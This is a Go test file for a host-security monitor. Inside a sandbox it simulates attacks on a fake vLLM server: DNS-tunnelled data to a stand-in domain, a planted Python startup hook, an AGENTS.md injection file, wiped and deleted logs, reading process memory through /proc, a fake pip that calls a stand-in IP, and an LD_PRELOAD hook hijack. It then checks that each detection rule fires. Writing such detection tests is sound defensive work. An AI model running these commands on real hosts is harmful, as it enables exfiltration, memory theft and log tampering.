package node_test

import (
	"bufio"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"picket/event"
)

// asker asks for names as a resolver's library does, of a server that does not answer.
const asker = `
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(60):
    name = [os.urandom(25).hex(), "t", "evil-names", "com"]
    q = b"".join(bytes([len(p)]) + p.encode() for p in name) + b"\0" + struct.pack("!HH", 1, 1)
    s.sendto(struct.pack("!6H", i, 0x100, 1, 0, 0, 0) + q, ("127.0.0.1", 53))
`

// Below a server that poses as vLLM an attacker does, by real programs, what the rules of the host are
// about; at last the server is made to dump its memory. Each is told, and ordinary work before is not.
func TestWhatAttackersDoOnAHostIsTold(t *testing.T) {
	p := newProgram(t)
	python := "/usr/bin/python3"
	for _, tool := range []string{python, "unshare", "ip", "curl", "dd", "timeout"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skip("needs ", tool)
		}
	}
	serve := filepath.Join(p.dir, "venv/bin/vllm")
	write(t, serve, `
import subprocess, sys
held = open(sys.argv[2] + "/model.safetensors", "rb")
print("ready", flush=True)
for line in sys.stdin:
    subprocess.run(line.split(), stderr=subprocess.DEVNULL)
    print("done", flush=True)
`)
	write(t, filepath.Join(p.dir, "models/m/model.safetensors"), "weights")
	write(t, filepath.Join(p.dir, "asker.py"), asker)
	packages, logs := filepath.Join(p.dir, "lib/python3.11/site-packages"), filepath.Join(p.dir, "logs")
	write(t, filepath.Join(packages, "there.py"), "")
	write(t, filepath.Join(logs, "server.log"), "request\n")
	write(t, filepath.Join(logs, "access.log"), "request\n")
	p.start()
	cmd := exec.Command("/bin/sh", "-c", `ulimit -c unlimited; exec "$@"`, "sh", python, serve, "serve", filepath.Join(p.dir, "models/m"))
	cmd.Dir = p.dir
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	lines := bufio.NewScanner(out)
	lines.Scan()
	n := 0
	run := func(script string) {
		n++
		file := filepath.Join(p.dir, fmt.Sprintf("step%d", n))
		write(t, file, "#!/bin/sh\n"+script+"\n")
		if _, err := in.Write([]byte("/bin/sh " + file + "\n")); err != nil || !lines.Scan() {
			t.Fatal("the server is gone: ", err)
		}
	}
	told := func(rule string) []event.Finding {
		var mine []event.Finding
		list, _ := p.findings(rule) // asked again
		for _, f := range list {
			if strings.Contains(f.Summary, p.dir) || strings.Contains(f.Summary, "evil-names.com") || strings.Contains(f.Summary, "203.0.113.66") ||
				strings.Contains(f.Summary, fmt.Sprintf("(pid %d)", cmd.Process.Pid)) || strings.Contains(f.Summary, "signal 6") {
				mine = append(mine, f)
			}
		}
		return mine
	}
	p.until(60*time.Second, "the server is known", func() bool {
		b := p.heartbeat()
		return b != nil && len(b.Models) > 0
	})
	// Ordinary work.
	run(fmt.Sprintf("echo line >> %s/server.log; echo x > %s/notes.txt; touch %s/new.py", logs, p.dir, packages))
	attacks := []struct{ rule, script string }{
		{"names_carry_data", python + " " + p.dir + "/asker.py"},
		{"start_hook_written", fmt.Sprintf("echo import os > %s/fix.pth", packages)},
		{"agent_files_written_by_workload", fmt.Sprintf("echo obey > %s/AGENTS.md", p.dir)},
		{"logs_emptied", fmt.Sprintf(": > %s/server.log", logs)},
		{"logs_deleted", fmt.Sprintf("rm %s/access.log", logs)},
		{"model_process_memory_taken", fmt.Sprintf("dd if=/proc/%d/mem of=%s/taken bs=4096 skip=1 count=1", cmd.Process.Pid, p.dir)},
		{"install_reached_out", fmt.Sprintf(
			"printf '#!/bin/sh\\nip link set lo up\\nip addr add 203.0.113.66/32 dev lo\\ncurl -s -m 2 http://203.0.113.66/\\ntrue\\n' > %[1]s/pip; chmod +x %[1]s/pip; unshare -n %[1]s/pip install x", p.dir)},
	}
	for _, a := range attacks {
		if early := told(a.rule); len(early) > 0 {
			t.Errorf("%s before its attack: %s", a.rule, early[0].Summary)
		}
		run(a.script)
	}
	for _, a := range attacks {
		p.until(60*time.Second, a.rule+" is told", func() bool { return len(told(a.rule)) > 0 })
		t.Log(told(a.rule)[0].Summary)
	}
	if err := cmd.Process.Signal(syscall.SIGABRT); err != nil {
		t.Fatal(err)
	}
	_ = cmd.Wait()
	if is, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); !ok || !is.CoreDump() {
		t.Log("this host dumps no memory: ", cmd.ProcessState)
	} else {
		p.until(60*time.Second, "the dump is told", func() bool { return len(told("model_process_core_dumped")) > 0 })
	}

	// A hook of NVIDIA's toolkit by its name, with a library of ours.
	hook, library := filepath.Join(p.dir, "nvidia-ctk"), filepath.Join(p.dir, "poc.so")
	for to, from := range map[string]string{hook: "/usr/bin/env", library: "/lib/x86_64-linux-gnu/libm.so.6"} {
		b, err := os.ReadFile(from)
		if err != nil {
			t.Skip("the hook is not played: ", err)
		}
		if err := os.WriteFile(to, b, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	preloaded := exec.Command(hook, "true")
	preloaded.Env = []string{"LD_PRELOAD=" + library, "PATH=/usr/bin:/bin"}
	if out, err := preloaded.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	for _, rule := range []string{"toolkit_hook_preloaded", "toolkit_hook_loaded_strange_library"} {
		p.until(60*time.Second, rule+" is told", func() bool { return len(told(rule)) > 0 })
	}
}
